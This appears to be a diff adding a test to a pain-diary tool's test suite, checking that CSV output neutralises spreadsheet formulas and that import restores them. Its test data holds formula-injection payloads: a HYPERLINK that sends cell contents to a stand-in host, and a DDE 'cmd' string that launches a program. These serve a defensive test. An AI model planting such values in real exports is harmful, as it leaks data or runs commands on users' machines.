@@ -287,3 +287,38 @@ def test_an_import_onto_a_full_disk_says_so(tmp_path, monkeypatch):
     assert_refused(result, f"The disk holding {db} is full, so nothing was saved; the diary is as it was.")
     monkeypatch.undo()
     assert entries(db) == []
+
+
+# -- 8. CSV cells never run as formulas --------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"see\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+            "'=already quoted by me", "'just a quote", "-5"]
+
+
+def test_csv_export_and_list_neutralise_formulas_and_import_reads_them_back(tmp_path):
+    import csv
+    import io
+    import zipfile
+
+    db = tmp_path / "diary.db"
+    for i, note in enumerate(FORMULAS):
+        assert _run(db, "log", "--pain", "4", "--at", f"2026-11-{i + 1:02d} 09:00", "--note", note).exit_code == 0
+    assert _run(db, "question", "add", "=1+1").exit_code == 0
+    listed = list(csv.DictReader(io.StringIO(_run(db, "list", "--format", "csv").output)))
+    out = tmp_path / "all.zip"
+    assert _run(db, "export", "--format", "csv", "-o", str(out)).exit_code == 0
+    with zipfile.ZipFile(out) as archive:
+        exported = list(csv.DictReader(io.StringIO(archive.read("entries.csv").decode("utf-8"))))
+        [question] = csv.DictReader(io.StringIO(archive.read("questions.csv").decode("utf-8")))
+    expected = ["'" + FORMULAS[0], "'+1+1", "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9)",
+                "''=already quoted by me", "'just a quote", "-5"]
+    assert sorted(row["note"] for row in listed) == sorted(expected)
+    assert [row["note"] for row in exported] == expected and question["question"] == "'=1+1"
+    # Numbers stay numbers: pain, and a negative UTC offset.
+    assert {row["pain"] for row in exported} == {"4"}
+    other = tmp_path / "other.db"
+    assert _run(other, "import", str(out)).exit_code == 0
+    notes = [e.note for e in entries(other)]
+    assert notes == FORMULAS
+    with Diary.open(other, read_only=True) as diary:
+        assert [q.text for q in active(diary).questions()] == ["=1+1"]
